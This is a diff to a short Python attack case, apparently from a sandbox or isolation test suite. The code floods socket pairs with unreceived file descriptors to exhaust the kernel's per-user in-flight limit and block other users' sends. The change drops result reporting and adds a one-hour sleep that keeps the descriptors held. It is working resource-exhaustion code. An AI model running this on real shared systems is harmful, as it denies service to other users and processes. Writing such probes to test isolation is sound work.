@@ -1,8 +1,9 @@
-"""Sends descriptors over socket pairs, which nobody receives: the kernel counts them per user, and refuses everybody's."""
+"""Sends descriptors over socket pairs, which nobody receives: the kernel counts them per user, and refuses others'."""
 
 import array
 import os
 import socket
+import time
 
 from _attack import attack, attempt
 
@@ -17,10 +18,8 @@ held = []
 
 @attack
 def handle(host):
-    found = {}
-    for count in range(40):
-        pair = socket.socketpair()
-        held.append(pair)
-        found[f"send {count}"] = attempt(send, pair[0])
-    found["to the gateway"] = attempt(send, socket.socket(fileno=os.dup(3)))
-    return found
+    for _ in range(40):
+        held.append(socket.socketpair())
+        attempt(send, held[-1][0])
+    attempt(send, socket.socket(fileno=os.dup(3)))
+    time.sleep(3_600)
